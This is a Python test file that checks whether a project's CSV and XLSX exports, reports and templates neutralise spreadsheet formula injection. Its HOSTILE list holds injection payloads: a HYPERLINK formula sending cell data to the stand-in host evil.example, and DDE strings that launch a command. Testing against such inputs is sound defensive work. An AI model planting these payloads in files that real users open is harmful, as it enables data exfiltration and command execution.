"""No CSV or XLSX Marsad writes hands back a live formula (OWASP CSV injection), whoever typed the text.

Each writer builds its file with hostile values, which is then read back: with the csv module
(every such cell starts with the single quote) and with openpyxl, data_only=False (no cell is a
formula, each hostile text is a string cell with Excel's quote prefix). Numbers stay numbers.
"""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from services.catalog import Catalog, Codelist, Dataset, Field
from services.indicators.table import TOTAL, IndicatorTable

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=2+3",
    "=1+1",
    "#N/A",   # openpyxl would write this as an error value
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(data: bytes, encoding: str = "utf-8-sig") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(encoding), newline="")) for cell in row]


def assert_csv_inert(cells: list[str], hostile=HOSTILE, numbers=()) -> None:
    for h in hostile:
        if h.startswith(FORMULA_STARTS):
            assert "'" + h in cells, f"{h!r} missing or not neutralised"
            assert h not in cells
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or cell in numbers, f"live formula {cell!r}"


def assert_xlsx_inert(data: bytes, hostile=HOSTILE) -> None:
    book = load_workbook(io.BytesIO(data), data_only=False)
    seen = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), f"{sheet.title}!{cell.coordinate} {cell.value!r}"
                if isinstance(cell.value, str):
                    seen[cell.value] = cell
    for h in hostile:
        cell = next((c for v, c in seen.items() if h in v), None)
        assert cell is not None, f"{h!r} missing"
        assert cell.data_type == "s"
        if cell.value.startswith(FORMULA_STARTS):
            assert cell.quotePrefix, f"{cell.value!r} without the quote prefix"


# --- the rule -----------------------------------------------------------------------------


def test_the_rule_neutralises_formula_starts_and_leaves_numbers():
    from services.cells import csv_cell

    assert [csv_cell(h) for h in HOSTILE[:7]] == ["'" + h for h in HOSTILE[:7]]
    for number in ("-5", "+3", "-1.5", "-2e3", 7, -7, 2.5, None, ""):
        assert csv_cell(number) == number
    assert csv_cell("plain text") == "plain text"
    assert csv_cell(" =1+1") == " =1+1"     # not a formula: it does not start with "="


# --- the rejection report -----------------------------------------------------------------


def test_rejection_report_csv():
    from services.ingest.report import report_csv

    lines = [{"row": i + 2, "field": h, "value": h, "code": "unknown_code", "message": h}
             for i, h in enumerate(HOSTILE)]
    lines.append({"row": 99, "field": "count", "value": "-5", "code": "below_min", "message": "too small"})
    cells = csv_cells(report_csv(lines, "en"))
    assert_csv_inert(cells, numbers={"-5"})
    assert "-5" in cells and "99" in cells


def test_rejection_report_of_a_real_upload(tmp_path, monkeypatch):
    """Through the real validation: the hostile values come from the partner's file."""
    monkeypatch.setenv("MARSAD_DATABASE_URL", f"sqlite:///{tmp_path / 'cells.db'}")
    monkeypatch.setenv("MARSAD_STORAGE", "local")
    monkeypatch.setenv("MARSAD_STORAGE_DIR", str(tmp_path / "objects"))
    from services import db
    from services.catalog import default_catalog
    from services.ingest import ingest
    from services.ingest.report import report_csv, report_lines
    from services.policy import Principal

    db.upgrade(db.default_engine())
    fields = default_catalog().dataset("border_crossings").field_names
    path = tmp_path / "hostile.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(fields)
        for h in HOSTILE[:4]:
            writer.writerow([h] * len(fields))
    principal = Principal(username="t", institution="MI-PAF", roles=frozenset({"submitter"}))
    result = ingest(path, dataset="border_crossings", institution="MI-PAF", principal=principal)
    assert not result.valid
    lines = report_lines(result.problems, default_catalog(), "border_crossings", "fr")
    assert_csv_inert(csv_cells(report_csv(lines, "fr")), hostile=HOSTILE[:4])


# --- indicator exports --------------------------------------------------------------------


@pytest.fixture
def hostile_table() -> IndicatorTable:
    cells = {(h, "M"): 10 + i for i, h in enumerate(HOSTILE)}
    cells[("TUN", "F")] = -5          # a genuine negative number (net migration can be)
    cells[("TUN", TOTAL)] = 7
    meta = {"names": {lang: HOSTILE[0] for lang in ("ar", "fr", "en")},
            "definition": {lang: HOSTILE[1] for lang in ("ar", "fr", "en")}, "reference": HOSTILE[2]}
    return IndicatorTable("net_migration", ("nationality", "sex"), cells, unit="persons", meta=meta)


def test_indicator_csv(hostile_table):
    from services.exports import to_csv

    cells = csv_cells(to_csv(hostile_table, "fr"))
    assert_csv_inert(cells, numbers={"-5"})
    assert "-5" in cells


def test_indicator_xlsx(hostile_table):
    from services.exports import to_xlsx

    data = to_xlsx(hostile_table, "en")
    assert_xlsx_inert(data)
    values = [c for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for c in row]
    negative = [c for c in values if c.value == -5]
    assert negative and negative[0].data_type == "n"     # a number, not text


def test_sdmx_csv(hostile_table):
    from services.exports import to_sdmx_csv

    cells = csv_cells(to_sdmx_csv(hostile_table), encoding="utf-8")
    assert_csv_inert(cells, numbers={"-5"})
    assert "-5" in cells


# --- submission templates -----------------------------------------------------------------


@pytest.fixture
def hostile_catalog() -> Catalog:
    labels = {lang: HOSTILE[1] for lang in ("ar", "fr", "en")}
    items = tuple({"code": h, "labels": {"ar": h, "fr": h, "en": h}} for h in HOSTILE)
    codelist = Codelist(code="evil", names={"en": HOSTILE[2], "fr": HOSTILE[2], "ar": HOSTILE[2]}, items=items,
                        lookup={})
    fields = (Field(name=HOSTILE[0], labels=labels, type="string", aliases=(HOSTILE[3],)),
              Field(name="kind", labels=labels, type="code", codelist="evil"),
              Field(name="count", labels=labels, type="integer", min=-90, max=90))
    dataset = Dataset(code="hostile", names={"en": HOSTILE[4], "fr": HOSTILE[4], "ar": HOSTILE[4]},
                      description={"en": HOSTILE[5], "fr": HOSTILE[5], "ar": HOSTILE[5]}, unit="event",
                      fields=fields)
    return Catalog(datasets={"hostile": dataset}, codelists={"evil": codelist}, messages={})


def test_csv_template(hostile_catalog):
    from services.templates import csv_template

    assert_csv_inert(csv_cells(csv_template("hostile", catalog=hostile_catalog)), hostile=HOSTILE[:1])


@pytest.mark.parametrize("lang", ["ar", "en"])
def test_xlsx_template(hostile_catalog, lang):
    from services.templates import xlsx_template

    data = xlsx_template("hostile", lang=lang, catalog=hostile_catalog)
    assert_xlsx_inert(data)
    book = load_workbook(io.BytesIO(data), data_only=False)
    # the drop-down lists and bounds are data validations, which keep working
    assert [v.type for v in book["data"].data_validations.dataValidation] == ["list", "whole"]


# --- sandbox credentials, synthetic error lists --------------------------------------------


def test_credentials_csv():
    from services.sandbox.credentials import COLUMNS, to_csv

    records = [{c: h for c in COLUMNS} for h in HOSTILE]
    assert_csv_inert(csv_cells(to_csv(records)))


def test_synth_error_list_csv(tmp_path):
    from services.cli.synth import write_errors

    path = tmp_path / "errors.csv"
    write_errors(path, [("ds", i, h, h) for i, h in enumerate(HOSTILE)], with_dataset=True)
    assert_csv_inert(csv_cells(path.read_bytes(), encoding="utf-8"))
